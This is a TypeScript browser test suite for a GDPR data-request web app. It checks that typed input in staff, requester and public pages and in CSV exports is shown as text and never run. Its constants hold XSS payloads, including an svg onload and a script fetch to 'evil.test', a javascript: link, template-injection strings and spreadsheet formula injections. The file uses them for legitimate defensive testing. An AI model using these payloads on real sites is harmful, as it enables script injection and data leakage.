/** Text that was typed to be run: as markup, as a template, as a formula (cases 10, 12 and 14), seen in a real browser. */

import { randomUUID } from "node:crypto";
import type { Page } from "playwright-core";
import { createStaff } from "@/lib/commands/access/create-staff";
import type { Ctx } from "@/lib/commands/context";
import { createController } from "@/lib/commands/controller/create-controller";
import { recordAuthority } from "@/lib/commands/identity/record-authority";
import { useLink as spendLink } from "@/lib/commands/identity/use-link";
import { askQuestion } from "@/lib/commands/request/ask-question";
import { flag } from "@/lib/commands/request/flag";
import { note } from "@/lib/commands/request/note";
import { reply } from "@/lib/commands/request/reply";
import { controllerById } from "@/lib/db/controller";
import { hashPassword } from "@/lib/db/password-hash";
import { ROLES } from "@/lib/domain/access/access";
import type { Details } from "@/lib/domain/intake/filing";
import { startApp, type TestApp } from "@/tests/support/app";
import { expectUnharmed, postAs, publicAt } from "@/tests/support/attack";
import { launchBrowser, noThirdPartyRequests, type TestBrowser } from "@/tests/support/browser";
import { useDatabase } from "@/tests/support/database";
import { filedAndConfirmed, SETTINGS, setupCtx, TEST_PASSWORD, TEST_TOTP } from "@/tests/support/desk";
import { filledForm } from "@/tests/support/form";
import type { Visitor } from "@/tests/support/http";
import { workingToken } from "@/tests/support/link";
import { browserOf } from "@/tests/support/sign-in";

const database = useDatabase();
let app: TestApp;
let browser: TestBrowser;
let ctx: Ctx;
let slug: string;
/** Somebody with every role whose own name is an attack, too. */
let staff: Visitor;
let reference: string;
let requester: string;

/** What closes whatever it may stand in, runs by itself, and is a template or a formula to somebody. */
const LINE = `"'>--></title></script><svg/onload=fetch('//evil.test/a')><img src=x onerror=alert(1)>{{71*73}}\${71*73}<%=71*73%>#{71*73}{name}__NAME__%s`;
const TEXT = `${LINE}\n</textarea></style><script>fetch('//evil.test/b')</script><a href="javascript:alert(1)">x</a>\n=HYPERLINK("//evil.test")\n@SUM(1)`;

beforeAll(async () => {
  expect(LINE.length).toBeLessThanOrEqual(200);
  app = await startApp({ database, limits: { DRAFT_SECONDS: 0 } });
  browser = await launchBrowser();
  await publicAt(app);
  const { id } = await createController(setupCtx(), {
    slug: `c-${randomUUID().slice(0, 8)}`,
    settings: {
      ...{ ...SETTINGS, name: LINE, registrationNumber: LINE.slice(0, 50), address: TEXT.slice(0, 500) },
      ...{ dpo: { name: LINE, email: "dpo@person.test", phone: "" }, otherWays: { en: TEXT, sv: TEXT } },
      ...{ protectedIdentityNotice: { en: TEXT, sv: TEXT } },
    },
  });
  const controller = await controllerById(id);
  if (controller === null) throw new Error("It was not made.");
  ctx = { ...(await publicAt(app)), controller, language: "en" };
  slug = controller.slug;
  const email = `${randomUUID().slice(0, 8)}@person.test`;
  const staffId = await createStaff(setupCtx(), {
    who: { name: LINE, email },
    language: "en",
    passwordHash: await hashPassword(TEST_PASSWORD),
    totpSecret: TEST_TOTP,
    roles: [{ controllerId: id, roles: ROLES }],
  });
  staff = await browserOf(app, {
    id: staffId,
    name: LINE,
    email,
    password: TEST_PASSWORD,
    totpSecret: TEST_TOTP,
  });
  ({ reference, requester } = await aRequest({ ...ctx, actor: { kind: "staff", staffId, roles: ROLES } }));
});
afterAll(async () => {
  await browser?.close();
  await app?.stop();
});
afterEach(() => expectUnharmed(app, database));

/** A request in which everybody who could has written the attack. */
async function aRequest(officer: Ctx): Promise<{ reference: string; requester: string }> {
  const who = {
    ...{ name: LINE, email: `${randomUUID().slice(0, 8)}@person.test`, identifiers: LINE },
    ...{ onBehalf: "other" as const, subjectName: LINE, authority: TEXT.slice(0, 2_000) },
  };
  const details: Details[] = [
    { right: "rectification", wrong: TEXT, correct: TEXT, complete: TEXT },
    { right: "portability", to: "controller", receiver: LINE },
    { right: "objection", what: TEXT, disclosure: true, situation: TEXT },
  ];
  const filed = await filedAndConfirmed(ctx, { language: "en", who, requests: details });
  const of = { reference: filed.reference };
  await note(officer, { ...of, version: 1, text: TEXT });
  const looked = { result: "accepted", kind: "lawyer", shown: TEXT.slice(0, 1_000) };
  await recordAuthority(officer, { ...of, version: 2, ...looked });
  await askQuestion(officer, { ...of, version: 3, text: TEXT });
  await reply(filed.requester, { ...of, text: TEXT, idempotencyKey: randomUUID() });
  await flag(officer, { ...of, version: 5, ground: "excessive", reason: TEXT });
  const { sessionToken } = await spendLink(ctx, await workingToken(database, filed.receipt.filingId));
  return { ...of, requester: sessionToken };
}

const answer = {
  outcome: "granted_in_part",
  text: TEXT,
  items: [{ name: LINE, description: TEXT }],
  refusals: [{ what: TEXT, ground: "gdpr-12-5-excessive", reasons: TEXT, provision: LINE, balancing: TEXT }],
  searches: [],
};

/** A page with somebody's cookies that fails when anything typed was run, or reached out. */
async function look(
  cookies: ReadonlyMap<string, string>,
): Promise<{ page: Page; expectHarmless(): Promise<void> }> {
  const page = await browser.newPage();
  const { hostname } = new URL(app.url);
  const more = { domain: hostname, path: "/", secure: true, httpOnly: true, sameSite: "Lax" } as const;
  await page.context().addCookies([...cookies].map(([name, value]) => ({ name, value, ...more })));
  const watch = noThirdPartyRequests(page, app.url);
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return {
    page,
    expectHarmless: async () => {
      await page.waitForTimeout(200);
      expect(dialogs).toEqual([]);
      watch.expectQuiet();
      const planted = await page.evaluate(
        () =>
          [...document.querySelectorAll("*")].filter(
            (node) =>
              [...node.attributes].some(
                ({ name, value }) => /^on/.test(name) || /^\s*javascript:/i.test(value),
              ) ||
              /evil\.test|^x$/.test(`${node.getAttribute("src") ?? ""}${node.getAttribute("href") ?? ""}`),
          ).length,
      );
      expect(planted).toBe(0);
    },
  };
}

/** What a person reads on a page, and what stands in its fields. */
function textOn(page: Page): Promise<string> {
  return page.evaluate(() => {
    const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    const shown: string[] = [];
    while (texts.nextNode()) {
      const { parentElement, textContent } = texts.currentNode;
      if (!parentElement?.closest("script, style, textarea")) shown.push(textContent ?? "");
    }
    const fields = [...document.querySelectorAll<HTMLInputElement>("input, textarea")];
    return [...shown, ...fields.map(({ value }) => value)].join("\n");
  });
}

const NOT_RUN =
  /<svg\/onload=fetch\('\/\/evil\.test\/a'\)><img src=x onerror=alert\(1\)>\{\{71\*73\}\}\$\{71\*73\}<%=71\*73%>#\{71\*73\}\{name\}__NAME__%s/;

test.each([
  ["the queue", "/queue"],
  ["a request", "/requests/REFERENCE"],
  ["an answer in the making", "/requests/REFERENCE/answer"],
  ["a letter before it leaves", "/requests/REFERENCE/answer/preview"],
  ["the settings", "/settings"],
  ["the colleagues", "/settings/staff"],
  ["the log", "/audit"],
])("10, 12: %s shows what was typed letter by letter and runs none of it", async (_what, path) => {
  const kept = await postAs(
    app,
    staff,
    `/api/staff/${slug}/requests/${reference}/draft`,
    JSON.stringify(answer),
  );
  expect([kept.status, kept.text]).toEqual([200, expect.any(String)]);
  const { page, expectHarmless } = await look(staff.cookies);
  await page.goto(`${app.url}/staff/${slug}${path.replace("REFERENCE", reference)}`);
  expect(new URL(page.url()).pathname).toBe(`/staff/${slug}${path.replace("REFERENCE", reference)}`);
  const shown = await textOn(page);
  expect(shown).toMatch(NOT_RUN);
  expect(shown).not.toMatch(/\b5183\b/);
  await page.emulateMedia({ media: "print" });
  await expectHarmless();
  await page.context().close();
});

test("10, 12: the person's own pages show what was typed, also what was refused, and run none of it", async () => {
  const sent = await postAs(
    app,
    staff,
    `/api/staff/${slug}/requests/${reference}/draft`,
    JSON.stringify(answer),
  );
  expect(sent.status).toBe(200);
  const { page, expectHarmless } = await look(new Map([["__Host-habeas.requester", requester]]));
  await page.goto(`${app.url}/my`);
  expect(await textOn(page)).toMatch(NOT_RUN);
  await expectHarmless();

  await page.context().clearCookies();
  await page.goto(`${app.url}/my`);
  await page.getByLabel("Reference").fill(LINE);
  await page.getByLabel("Email address").fill(LINE);
  await page.getByRole("button", { name: "Send a link" }).click();
  expect(await page.getByLabel("Reference").inputValue()).toMatch(NOT_RUN);
  await expectHarmless();
  await page.context().close();
});

test("10, 12: the public form gives back what was typed and runs none of it", async () => {
  const visitor = await filledForm(app.url, slug, { name: LINE, email: "ann@person.test", what: TEXT });
  const { page, expectHarmless } = await look(visitor.cookies);
  for (const path of ["", "/privacy", "/request/check", "/request/contact", "/request/about/complaint"]) {
    await page.goto(`${app.url}/${slug}${path}`);
    expect(await textOn(page)).toMatch(NOT_RUN);
    await expectHarmless();
  }
  await page.goto(`${app.url}/${slug}/request/check`);
  await page.getByRole("button", { name: "Send" }).click();
  await page.waitForURL("**/request/done");
  await expectHarmless();
  await page.context().close();
});

test("10: what comes back from a refused step is text on its page", async () => {
  const path = `/api/staff/${slug}/requests/${reference}/note`;
  const body = new URLSearchParams({ version: "1", text: TEXT, [LINE]: LINE }).toString();
  const asForm = { accept: "text/html", "content-type": "application/x-www-form-urlencoded" };
  const told = await postAs(app, staff, path, body, asForm);
  expect([400, 409]).toContain(told.status);
  const { page, expectHarmless } = await look(new Map());
  const { "content-security-policy": policy, "content-type": type } = told.headers;
  const headers = { "content-security-policy": String(policy), "content-type": String(type) };
  await page.route("**/told", (route) => route.fulfill({ body: told.text, headers }));
  await page.goto(`${app.url}/told`);
  expect(await textOn(page)).toMatch(NOT_RUN);
  await expectHarmless();
  await page.context().close();
});

/** What every spreadsheet program skips before it looks for a formula. */
const FORMULA = /^[\s\p{C}\p{Z}]*[=+\-@＝＋－＠]/u;

/** Nothing that strangers type is in the register; these stand where a later column might let it in. */
const FORMULAS = [
  ...["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\u2003+1", "\u0001=1"],
  ...[
    "＝1",
    "＋1",
    "－1",
    "＠1",
    'a","=1',
    "a;=1",
    'a";"=1',
    "a\n=1",
    "a\r\n+1",
    '=HYPERLINK("//evil.test")',
  ],
];

test.each(["", "?excel=1"])(
  "14: no cell of the exported register begins a formula (requests%s)",
  async (query) => {
    for (const planted of FORMULAS) {
      const { reference: of } = await filedAndConfirmed(ctx);
      await database.query("postgres", `update "RightsRequest" set "ruleVersion" = $1 where reference = $2`, [
        planted,
        of,
      ]);
    }
    const { status, text } = await postAs(app, staff, `/api/staff/${slug}/audit/requests${query}`, "");
    expect(status).toBe(200);
    const [header = [], ...rows] = readCsv(text.replace(/^\uFEFF/, ""), query === "" ? "," : ";");
    const at = header.indexOf("rule_version");
    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([header.length]));
    expect(
      rows.filter((row) => row[at]?.replace(/['\s\p{C}\p{Z}]/gu, "").startsWith("=1")).length,
    ).toBeGreaterThan(5);
    const lines = rows.flat().flatMap((cell) => cell.split(/\r\n|\r|\n/));
    expect(lines.filter((line) => FORMULA.test(line))).toEqual([]);
    expect(text).not.toMatch(/onload|onerror/);
  },
);

/** A reader of RFC 4180 that knows nothing of how the file was written. */
function readCsv(text: string, delimiter: "," | ";"): string[][] {
  const cell = new RegExp(`("(?:[^"]|"")*"|[^"${delimiter}\r\n]*)(${delimiter}|\r\n|$)`, "y");
  const rows: string[][] = [[]];
  while (cell.lastIndex < text.length) {
    const [, raw, end] = cell.exec(text) ?? [];
    if (raw === undefined)
      throw new Error(`This is not CSV: ${text.slice(cell.lastIndex, cell.lastIndex + 80)}`);
    rows.at(-1)?.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
    if (end === "\r\n") rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}
